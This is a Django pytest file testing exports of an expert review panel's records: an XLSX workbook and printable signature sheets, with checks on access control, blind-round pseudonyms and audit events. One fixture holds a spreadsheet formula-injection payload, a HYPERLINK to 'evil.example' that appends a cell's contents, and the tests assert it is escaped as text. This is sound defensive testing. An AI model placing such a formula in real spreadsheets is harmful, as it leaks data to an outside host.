"""The panel's records: the workbook (XLSX) of every submitted sheet, the consensus and the
ranking for the chair and, after the consensus, the publisher; the printable sheet an expert
signs; all as the site serves them (in Chinese). Identity stays hidden from experts in a blind
round, a formula typed in a comment stays text, each read is audited, and nobody else learns
the records exist."""

import io
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from openpyxl import load_workbook

from scenarios.models import AuditEvent, PublisherMembership
from selection import services
from selection.exports import record_links
from selection.models import Consensus, Panel
from tests.factories import OrganizationFactory

from .conftest import full_scores

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"详情")'


@pytest.fixture
def scored_panel(scoring_panel, bids, experts, publisher):
    """Every member submitted both bids (reviewer_3 with a formula as a comment); consensus."""
    for index, expert in enumerate(experts[:3]):
        for bid in bids:
            comment = FORMULA if index == 2 else "论证充分"
            services.sheet_save(
                bid, expert.user, full_scores(scoring_panel, 0.7 + index / 10, comment), submit=True
            )
    return services.panel_advance(scoring_panel, publisher, Panel.Stage.CONSENSUS)


def agree(panel, bid, score, user):
    return Consensus.objects.create(
        panel=panel, bid=bid, agreed_score=Decimal(score), comment="合议意见", recorded_by=user
    )


def workbook(client, panel):
    response = client.get(f"/review/{panel.pk}/records.xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    return load_workbook(io.BytesIO(response.content))


def cells(book):
    return [cell for sheet in book for row in sheet.iter_rows(values_only=True) for cell in row]


def test_the_chairs_workbook_has_a_row_per_expert_bid_and_criterion(
    client, scored_panel, bids, experts
):
    client.force_login(experts[0].user)
    book = workbook(client, scored_panel)
    assert book.sheetnames == ["评分明细", "专家评分汇总", "合议", "排名"]
    rows = list(book["评分明细"].iter_rows(min_row=2, values_only=True))
    criteria = scored_panel.criteria.count()
    assert len(rows) == 3 * len(bids) * criteria
    assert {row[3] for row in rows} == {expert.name for expert in experts[:3]}
    assert len(list(book["专家评分汇总"].iter_rows(min_row=2))) == 3 * len(bids)
    read = AuditEvent.objects.get(actor=experts[0].user, detail__record="records_xlsx")
    assert read.opportunity_id == scored_panel.opportunity_id


def test_the_publisher_reads_the_records_only_after_the_consensus(
    client, scored_panel, bids, experts, publisher
):
    agree(scored_panel, bids[0], "71.5", experts[0].user)
    agree(scored_panel, bids[1], "88", experts[0].user)
    client.force_login(publisher)
    assert client.get(f"/review/{scored_panel.pk}/records.xlsx").status_code == 404
    services.panel_advance(scored_panel, publisher, Panel.Stage.DECISION)
    book = workbook(client, scored_panel)
    ranking = list(book["排名"].iter_rows(min_row=2, values_only=True))
    assert [(row[1], row[3], row[4]) for row in ranking] == [
        (1, bids[1].bidder_name, 88),
        (2, bids[0].bidder_name, 71.5),
    ]
    everything = cells(book)
    assert {expert.name for expert in experts[:3]} <= set(everything)  # the official record
    assert "合议意见" in everything


def test_in_a_blind_round_the_chairs_records_name_no_bidder(client, scored_panel, bids, experts):
    Panel.objects.filter(pk=scored_panel.pk).update(blind_first_round=True)
    client.force_login(experts[0].user)
    everything = " ".join(str(cell) for cell in cells(workbook(client, scored_panel)))
    for bid in bids:
        assert bid.bidder_name not in everything
        assert bid.company.name not in everything
        assert bid.receipt_number not in everything
    assert "申报方 A" in everything
    assert "申报方 B" in everything


def test_a_comment_typed_as_a_formula_is_text_in_the_workbook(client, scored_panel, experts):
    client.force_login(experts[0].user)
    book = workbook(client, scored_panel)
    comments = [row[9] for row in book["评分明细"].iter_rows(min_row=2) if row[3].value == "陈立"]
    assert comments
    for cell in comments:
        assert cell.value == "'" + FORMULA
        assert cell.data_type == "s"


@pytest.fixture
def other_publisher(db):
    user = get_user_model().objects.create_user("publisher_dl", "dl@example.cn", "x")
    PublisherMembership.objects.create(
        user=user, organization=OrganizationFactory(name="大连高新区管委会")
    )
    return user


def agreed_on_every_bid(panel, bids, chair):
    """The consensus recorded on every bid: the condition of the move to the decision."""
    for bid in bids:
        agree(panel, bid, "80", chair.user)


def test_records_are_404_for_members_bidders_and_other_publishers(
    client, scored_panel, bids, experts, company_a, publisher, other_publisher
):
    agreed_on_every_bid(scored_panel, bids, experts[0])
    services.panel_advance(scored_panel, publisher, Panel.Stage.DECISION)
    for user in (experts[1].user, experts[3].user, company_a[1], other_publisher):
        client.force_login(user)
        assert client.get(f"/review/{scored_panel.pk}/records.xlsx").status_code == 404
    assert not AuditEvent.objects.filter(detail__record="records_xlsx").exists()


def print_url(panel, member):
    return f"/review/{panel.pk}/sheets/{member.pk}/print/"


def test_an_expert_prints_its_own_sheet_to_sign(client, scored_panel, bids, experts):
    member = scored_panel.members.get(expert=experts[1])
    client.force_login(experts[1].user)
    response = client.get(print_url(scored_panel, member))
    assert response.status_code == 200
    html = response.content.decode()
    assert "@page { size: A4" in html
    assert experts[1].name in html
    assert experts[1].affiliation in html
    assert member.declaration_text[:20] in html
    assert "专家签字" in html
    for bid in bids:
        assert bid.bidder_name in html
    assert 'href="/review/"' not in html  # no navigation on the printed page
    read = AuditEvent.objects.get(actor=experts[1].user, detail__record="sheet_print")
    assert read.detail["expert"] == experts[1].name


def test_the_print_page_is_404_for_another_expert_and_for_a_bidder(
    client, scored_panel, experts, company_a, other_publisher
):
    member = scored_panel.members.get(expert=experts[1])
    for user in (experts[2].user, experts[3].user, company_a[1], other_publisher):
        client.force_login(user)
        assert client.get(print_url(scored_panel, member)).status_code == 404, user


def test_the_chair_prints_a_members_sheet_from_the_consensus_on(
    client, scoring_panel, bids, experts, publisher
):
    member = scoring_panel.members.get(expert=experts[1])
    client.force_login(experts[0].user)
    assert client.get(print_url(scoring_panel, member)).status_code == 404
    for expert in experts[:3]:  # every sheet in: the condition of the move to the consensus
        for bid in bids:
            services.sheet_save(bid, expert.user, full_scores(scoring_panel), submit=True)
    services.panel_advance(scoring_panel, publisher, Panel.Stage.CONSENSUS)
    assert client.get(print_url(scoring_panel, member)).status_code == 200


def test_a_blind_round_prints_pseudonyms_only(client, scored_panel, bids, experts):
    Panel.objects.filter(pk=scored_panel.pk).update(blind_first_round=True)
    member = scored_panel.members.get(expert=experts[1])
    client.force_login(experts[1].user)
    html = client.get(print_url(scored_panel, member)).content.decode()
    assert "申报方 A" in html
    assert "申报方 B" in html
    for bid in bids:
        assert bid.bidder_name not in html
        assert bid.receipt_number not in html


def test_the_publisher_prints_a_members_sheet_after_the_consensus_only(
    client, scored_panel, bids, experts, publisher
):
    member = scored_panel.members.get(expert=experts[1])
    client.force_login(publisher)
    assert client.get(print_url(scored_panel, member)).status_code == 404
    agreed_on_every_bid(scored_panel, bids, experts[0])
    services.panel_advance(scored_panel, publisher, Panel.Stage.DECISION)
    response = client.get(print_url(scored_panel, member))
    assert response.status_code == 200
    assert experts[1].name in response.content.decode()


def test_record_links_offer_each_reader_what_it_may_open(scored_panel, experts, publisher):
    chair_links = record_links(experts[0].user, scored_panel)
    assert f"/review/{scored_panel.pk}/records.xlsx" in [link["url"] for link in chair_links]
    assert len(chair_links) == 1 + scored_panel.members.count()
    member_links = record_links(experts[1].user, scored_panel)
    own = scored_panel.members.get(expert=experts[1])
    assert [link["url"] for link in member_links] == [print_url(scored_panel, own)]
    assert record_links(publisher, scored_panel) == []
    assert record_links(experts[3].user, scored_panel) == []
